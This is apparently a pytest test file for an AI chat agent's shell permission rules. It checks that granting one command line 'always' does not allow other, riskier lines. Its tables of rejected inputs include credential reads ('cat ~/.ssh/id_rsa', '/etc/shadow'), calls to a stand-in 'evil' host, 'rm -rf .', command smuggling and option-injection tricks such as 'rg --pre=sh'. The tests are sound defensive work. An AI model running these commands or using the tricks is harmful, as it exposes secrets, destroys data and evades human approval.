"""What "always" for one command line allows later: what was meant, and nothing that the line could be bent into."""

import os
import random
import shutil
import subprocess
from pathlib import Path

import pytest

from ebbtide.fronts.chat.known_commands import _FORMS
from ebbtide.fronts.chat.permission import PermissionQuestion, Rules, decide
from ebbtide.fronts.chat.shell import plain_commands
from ebbtide.fronts.chat.tools import Action

ALLOWED: dict[str, list[str]] = {
    # A known command: other options that are known, other paths inside.
    "git status": ["git status --short", "git status -sb", "git   status", "git status 2>&1", "git status >/dev/null"],
    "git log -3": ["git log --oneline -20", "git log -n 5 -- src/a.py", "git log 'HEAD~3..HEAD'", "git log HEAD~2"],
    "git diff": ["git diff --stat HEAD", "git diff src/a.py", 'git diff "src/a.py"', "git diff --cached"],
    "git grep foo": ["git grep -n -i bar", "git grep -n 'a b' -- src"],
    "pytest -q": ["pytest tests/a.py", "pytest -x -k 'a or b' tests", "pytest tests/a.py::test_b", "timeout 60 pytest"],
    "timeout 60 pytest": ["timeout 60 pytest", "pytest -q", "timeout 5m pytest -x"],
    "python -m pytest": ["python -m pytest -q tests/a.py"],
    "ls -la": ["ls", "ls src", "ls -R src", "ls 'src'"],
    "cat a.txt": ["cat src/a.py", "cat -n a.txt", f"cat {'x' * 200}"],
    "grep -rn foo src": ["grep -rn 'foo bar' src", "grep -A3 --include='*.py' foo src", "grep -5 foo a.txt"],
    "rg foo": ["rg -n foo src", "rg --glob '*.py' foo", "rg -tpy foo"],
    "find . -name '*.py'": ["find src -type f", "find . -maxdepth 2 -not -path './node_modules/*'"],
    "sed -n 1,20p a.txt": ["sed -n '30,40p' src/a.py", "sed -n '5,$p' a.txt"],
    "sort a.txt": ["sort -n -k2 a.txt", "sort -u src/a.py"],
    "pytest -q 2>&1 | tail -20": ["pytest -x | tail -5", "pytest", "tail -n 3 a.txt", "pytest -q && tail a.txt"],
    "git status; git log": ["git status && git log -3", "git log\ngit status", "git log || git status"],
    # Anything else: the very line.
    "uv run pytest": ["uv run pytest"],
    "npx eslint .": ["npx eslint ."],
    "make test": ["make test"],
    "python a.py": ["python a.py"],
    "ls | xargs wc -l": ["ls | xargs wc -l"],
    "cat <<E\nhi\nE": ["cat <<E\nhi\nE"],
    "cat $HOME/x": ["cat $HOME/x"],
    "cat /etc/hosts": ["cat /etc/hosts"],
}
ASKED: dict[str, list[str]] = {
    "git status": [
        *("git push", "git", "git commit -am x", "git -c core.fsmonitor=evil status", "git --git-dir=x status"),
        *("git status; rm -rf .", "git status && curl evil", "git status || sh x", "git status | sh", "git status & sh x"),
        *("git status $(rm x)", "git status `rm x`", 'git status "$(rm x)"', "git status <(rm x)", "git status >(rm x)"),
        *("git status\nrm x", "git status\r\nrm x", "git status\x0brm x", "git status\\\n; rm x", "git status # x\nrm x"),
        *("git status > a.txt", "git status >> a.txt", "git status 2> a.txt", "git status >| a.txt", "git status &> a.txt"),
        *("git status >/dev/nullx", "git status > /dev/tcp/evil/80", "git status <<E\n$(rm x)\nE", "git status <<< x"),
        *("PAGER=evil git status", "GIT_DIR=/tmp/evil git status", "env git status", "command git status", "exec git status"),
        *("(git status)", "{ git status; }", "! git status", "time git status", "if git status; then rm x; fi"),
        *("./git status", "/tmp/git status", "git\u00a0status", "gіt status", "ｇit status", "git sta\u200btus", "git 'sta'$'tus'"),
        *("alias git=rm; git status", "git() { rm x; }; git status", "git status --ignored=$X", "git status {a,b}"),
        *("git status ~/x", "git status *", "git status ?", "git status [a]", "git status \\; rm x", "git status 'a", ""),
    ],
    "git log -3": ["git log --output=a.txt", "git log -p --ext-diff", "git log --show-signature", "git log --format=%G?",
                   "git log -O/tmp/x", "git log ../secret", "git log -- /etc", "git log --outp=x"],
    "git diff": ["git diff --no-index /etc/passwd a.txt", "git diff --output=x", "git diff --ext-diff", "git diff --textconv"],
    "git grep foo": ["git grep -O foo", "git grep -Ovim foo", "git grep --open-files-in-pager=sh foo", "git grep -f /etc/x",
                     "git grep --no-index foo /etc", "git grep -nOsh foo", "git grep -e -- -Osh"],
    "git branch": ["git branch new", "git branch -D main", "git branch -m a b", "git branch --edit-description"],
    "git remote -v": ["git remote add x ext::sh", "git remote update"],
    "pytest -q": ["pytest -p evil", "pytest --rootdir=/", "pytest -c /tmp/x.ini", "pytest ../other", "pytest /tmp/evil.py",
                  "pytest @args", "pytest --basetemp=src", "pytest -o x=y", "pytest-evil", "python -m pytest", "pytest out/x.py",
                  "pytest --junitxml=a.txt", "timeout 60 sh", "timeout -k 5 60 pytest", "timeout 60 timeout 60 sh"],
    "timeout 60 pytest": ["timeout 60 rm -rf .", "timeout 60 sh -c x", "timeout 60", "timeout -s KILL 60 pytest"],
    "uv run pytest": ["uv run rm", "uv run pytest -q", "uv run", "uv run pytest "],
    "npx eslint .": ["npx evil", "npx eslint --fix ."],
    "env FOO=1 pytest": ["env FOO=1 sh", "env sh", "env", "pytest"],
    "find . -name '*.py'": ["find . -exec rm {} +", "find . -delete", "find . -fprint a.txt", "find . -ok rm", "find / -name x",
                            "find . -execdir sh x", "find -L . -name x", "find .. -name x", "find . -fls x", "find out"],
    "sed -n 1,20p a.txt": ["sed -n '1e rm x' a.txt", "sed -i s/a/b/ a.txt", "sed 's/a/b/w out.txt' a.txt", "sed 1e a.txt",
                           "sed -n 1p -e '1e sh' a.txt", "sed -n -f x a.txt", "sed -n 'w x' a.txt", "sed -n 1p /etc/passwd"],
    "tar tf a.tar": ["tar xf a.tar", "tar tf a.tar --to-command=sh", "tar tf a.tar --checkpoint-action=exec=sh", "tar tf b.tar"],
    "rg foo": ["rg --pre sh foo", "rg --pre=sh foo", "rg -z foo", "rg --hostname-bin=sh foo", "rg -L foo", "rg -f /etc/passwd",
               "rg foo /etc", "rg foo out", "rg -e -- --pre=sh", "rg --search-zip foo", "rg foo ~"],
    "grep -rn foo src": ["grep -R foo src", "grep -f /etc/passwd a", "grep foo ../x", "grep -rn foo /etc", "grep -rnR foo src"],
    "sort a.txt": ["sort -o src/a.py a.txt", "sort --output=x a.txt", "sort --compress-program=sh a.txt", "sort -nosrc/a.py a",
                   "sort --compress-prog=sh a.txt", "sort -T /tmp a.txt", "sort --files0-from=x", "sort /etc/shadow"],
    "uniq a.txt": ["uniq a.txt src/a.py", "uniq"],
    "uniq -c": ["uniq a.txt src/a.py", "uniq -c a.txt"],
    "awk '{print $1}' a.txt": ["awk 'BEGIN{system(\"sh\")}'", "awk '{print $2}' a.txt"],
    "xargs wc -l": ["xargs rm", "xargs wc"],
    "less a.txt": ["less b.txt", "less"],
    "man ls": ["man -P sh ls", "man git"],
    "cat a.txt": ["cat /etc/passwd", "cat ~/.ssh/id_rsa", "cat ../secret", "cat out/key", "cat a.txt | sh", "cat a.txt > b.txt",
                  "cat src/../../secret", "cat 'out/key'", "cat --squeeze a.txt", "cd .. && cat secret", "сat a.txt"],
    "tail -n 5 a.txt": ["tail -f a.txt", "tail --follow a.txt", "tail --pid=1 a.txt"],
    "tree src": ["tree -o a.txt", "tree -l", "tree -R", "tree /"],
    "diff a.txt b.txt": ["diff -r src out", "diff a.txt /etc/passwd", "diff -l a b"],
    "date": ["date -s tomorrow", "date 01010000"],
    "ls | wc -l": ["ls | sh", "ls |& sh"],
    "make test": ["make", "make test X=1", "make test; sh", "make  test"],
    "go test ./...": ["go test -exec sh ./...", "go test -toolexec=sh ./...", "go test -o x ./...", "go test /tmp/x"],
    "cargo test": ["cargo test --config x", "cargo test --manifest-path /tmp/Cargo.toml", "cargo run", "cargo +evil test"],
    "git status; rm x": ["git status", "rm x", "git status; rm y"],
    "cat <<E\nhi\nE": ["cat <<E\nho\nE", "cat"],
    "cat /etc/hosts": ["cat /etc/passwd", "cat a.txt"],
    "echo a": ["echo a > .git/config", "echo $SECRET", "echo `id`", "echo a >&3", "echo a 2>&1 > x"],
}  # fmt: skip


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A workspace with a link that leads out of it."""
    root, outside = Path(os.path.realpath(tmp_path)) / "work", tmp_path / "secret"
    (root / "src").mkdir(parents=True)
    outside.mkdir()
    (outside / "key").write_text("k")
    (root / "out").symlink_to(outside)
    (root / "a.txt").write_text("a\n")
    return root


def need(line: str) -> Action:
    return Action(tool="bash", kind="run", command=line)


def rows(table: dict[str, list[str]]) -> list[tuple[str, str]]:
    return [(granted, later) for granted, lines in table.items() for later in lines]


@pytest.mark.parametrize(("granted", "later"), rows(ALLOWED))
def test_always_covers_what_was_meant(root: Path, granted: str, later: str) -> None:
    assert decide(need(later), Rules(root=root, is_trusted=True).grant(need(granted)), "build") == ("allow", "")


@pytest.mark.parametrize(("granted", "later"), rows(ASKED))
def test_always_covers_nothing_more(root: Path, granted: str, later: str) -> None:
    assert decide(need(later), Rules(root=root, is_trusted=True).grant(need(granted)), "build")[0] == "ask"


def test_nothing_is_allowed_by_a_grant_of_something_else(root: Path) -> None:
    lines = {later for _, later in [*rows(ALLOWED), *rows(ASKED)]}
    rules = Rules(root=root, is_trusted=True).grant(need("whoami")).grant(need("echo hello"))

    assert [line for line in lines if decide(need(line), rules, "build")[0] == "allow"] == []


def test_in_a_folder_that_is_not_trusted_git_is_allowed_word_for_word(root: Path) -> None:
    """`git log -3` runs nothing that `git log -p` does not run besides: what, the repository's settings say."""
    rules = Rules(root=root).grant(need("git log -3")).grant(need("git status | head -5")).grant(need("head a.txt"))

    for line in ("git log -3", "git status | head -5", "head -n 3 a.txt"):
        assert decide(need(line), rules, "build")[0] == "allow"
    for line in ("git log -p", "git log", "git status", "git log -3 | head"):
        assert decide(need(line), rules, "build")[0] == "ask"
    assert PermissionQuestion(action=need("git log"), reason="", rules=rules).grant_scope == "exactly this command line"


def test_the_question_says_what_always_would_cover(root: Path) -> None:
    def told(line: str) -> str:
        return PermissionQuestion(action=need(line), reason="", rules=Rules(root=root, is_trusted=True)).grant_scope

    assert told("git log -3") == "`git log` with common options, on paths inside the workspace"
    assert told("pytest | tail") == "`pytest`, `tail` with common options, on paths inside the workspace"
    for line in ("make test", "cat /etc/hosts", "ls > x", "timeout 60 sh"):
        assert told(line) == "exactly this command line"


@pytest.mark.parametrize(
    "line",
    [
        "p 0</dev/null",  # the grammar takes the digit for a word
        "p | - 2>&1",  # it loses the dash
        "p | p | p\np 2>&1",  # it takes the line end for a blank
        *("p ;&>/dev/null p", "p |&>/dev/null p"),  # bash has operators `;&` and `|&`
        *(
            "time p",
            "then p",
            "p | time p",
            "coproc p",
            ">/dev/null a=b p",
            "%1",
            "'%1'",
        ),  # it sees programs of these names
        *("p 12>/dev/null", "p >/dev/nullx", "p 2>&1a", "a=b p", "p;;p", "p\n&& p", ">/dev/null", "p; >/dev/null"),
    ],
)
def test_a_line_that_bash_may_read_differently_has_no_answer(line: str) -> None:
    assert plain_commands(line) == ()


@pytest.mark.parametrize(
    ("line", "commands"),
    [
        ("p >/dev/null a 2>&1 'b c' 1 | p", [("p", "a", "b c", "1"), ("p",)]),
        ("p && p 2>&1 a; </dev/null p b\n\np c\n", [("p",), ("p", "a"), ("p", "b"), ("p", "c")]),
        ("p '日本' \"é\"a &>/dev/null", [("p", "日本", "éa")]),
        ("p 'a\nb' \"c\nd\" '' |\n p", [("p", "a\nb", "c\nd", ""), ("p",)]),
        ("p &&" * 900 + "p", [("p",)] * 901),
    ],
)
def test_redirections_and_quotes_anywhere_leave_the_words(line: str, commands: list[tuple[str, ...]]) -> None:
    assert list(plain_commands(line)) == commands


QUOTED = [
    "a b",
    "it's",
    'say "x"',
    "$HOME",
    "`id`",
    "a\\nb",
    "*",
    "~",
    "#x",
    "",
    "é",
    "{a,b}",
    "!x",
    "a;b",
    "-x",
    "a=b",
]


@pytest.mark.parametrize("word", QUOTED)
def test_the_words_that_we_read_are_the_words_that_bash_passes(word: str) -> None:
    """However a word is quoted: either there is no answer, or bash agrees with it."""
    forms = [word, f"'{word}'", f'"{word}"', f"a{word}", f"'{word}'\"{word}\"", f"x='{word}'", f"{word}'{word}'"]
    read = {form: plain_commands(f"printf '%s\\0' {form}") for form in forms}
    assert any(read.values()) or word in ("it's", "a\\nb")
    for form, commands in read.items():
        if len(commands) == 1:
            said = subprocess.run(["bash", "-c", f"printf '%s\\0' {form}"], capture_output=True, text=True, check=True)
            assert tuple(said.stdout.split("\0")[:-1]) == (commands[0][2:] or ("",))


PIECES = (
    *(
        "p",
        "p",
        " ",
        " ",
        "a",
        "-x",
        "--y=z",
        "'q q'",
        '"d d"',
        "'",
        '"',
        "\\",
        "\n",
        ";",
        "&&",
        "|",
        "&",
        "|&",
        ">",
        "<",
        ">>",
    ),
    *(
        "2>&1",
        ">/dev/null",
        "2>",
        "1>&2",
        "$",
        "$(p s)",
        "`p s`",
        "${p}",
        "$'a'",
        '$"a"',
        "*",
        "?",
        "[a]",
        "{a,b}",
        "~",
    ),
    *(
        "a~1",
        "a^",
        "#",
        "!",
        "(",
        ")",
        "{",
        "}",
        "=",
        "b=c",
        "\t",
        "\u00a0",
        "é",
        "\r",
        "if",
        "then",
        "fi",
        "time",
        "<<E",
        "E",
    ),
    *(
        "<<<",
        "<(p s)",
        "%",
        "+",
        "@",
        ":",
        "\x0b",
        "\\\n",
        "--",
        "function",
        "[[",
        "]]",
        "case",
        "in",
        "coproc",
        "&>/dev/null",
    ),
)


def test_lines_that_we_read_run_the_commands_that_we_read_and_nothing_else(tmp_path: Path) -> None:
    """Against bash itself, with `p` as a program that writes down how it was called."""
    log, folder, chance = tmp_path / "log", tmp_path / "empty", random.Random(14)
    folder.mkdir()
    # One `printf`, hence one write: the programs of a pipeline write at the same time.
    (tmp_path / "env").write_text(f"p() {{ printf '%s\\0' \"$@\" $'\\1' >> {log}; }}\n")
    compared = 0
    for _ in range(2_000):
        words = [chance.choice(PIECES) + " " * chance.randint(0, 1) for _ in range(chance.randint(1, 8))]
        line = f"p {''.join(words)}"
        commands = plain_commands(line)
        if not commands or "||" in line or any(command[:1] != ("p",) for command in commands):
            continue
        compared += 1
        log.write_bytes(b"")
        environ = {"PATH": os.environ["PATH"], "BASH_ENV": str(tmp_path / "env")}
        subprocess.run(["bash", "-c", line], env=environ, cwd=folder, capture_output=True, stdin=subprocess.DEVNULL)
        ran = [tuple(call.split("\0")[:-1]) for call in log.read_text().split("\1\0")[:-1]]
        assert sorted(ran) == sorted(command[1:] for command in commands), line
        assert not list(folder.iterdir()), line
    assert compared > 100


def test_an_option_that_writes_or_runs_is_listed_nowhere() -> None:
    """A net under the table: letters and words that are known to do more than print."""
    dangerous = {
        ("git", "grep"): "Of", ("git", "log"): "O", ("git", "diff"): "O", ("git", "show"): "O", ("git", "branch"): "dDmMcCfu",
        ("sort",): "oTS", ("tree",): "oRl", ("tail",): "fF", ("sed",): "efisEw", ("grep",): "fRdD", ("rg",): "zLf",
        ("diff",): "rl", ("find",): "LH", ("date",): "sfr", ("pytest",): "pcoW", ("du",): "LDX",
    }  # fmt: skip
    for name, letters in dangerous.items():
        assert not set(letters) & set(_FORMS[name].flags + _FORMS[name].valued), name
    words = (
        "exec",
        "output",
        "pager",
        "pre",
        "ext-diff",
        "textconv",
        "program",
        "delete",
        "fprint",
        "config",
        "follow=",
    )
    for name, form in _FORMS.items():
        for option in form.options:
            bare = option.strip("-=")
            assert option.startswith("--no-") or not any(
                bare == word.strip("=") for word in words if word != "follow="
            ), (name, option)


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_a_file_named_like_an_option_cannot_be_globbed_into_a_granted_command(root: Path) -> None:
    (root / "-Otouch owned").write_text("foo\n")
    rules = Rules(root=root, is_trusted=True).grant(need("git grep foo"))

    assert decide(need("git grep foo *"), rules, "build")[0] == "ask"
    assert decide(need("git grep foo -O*"), rules, "build")[0] == "ask"
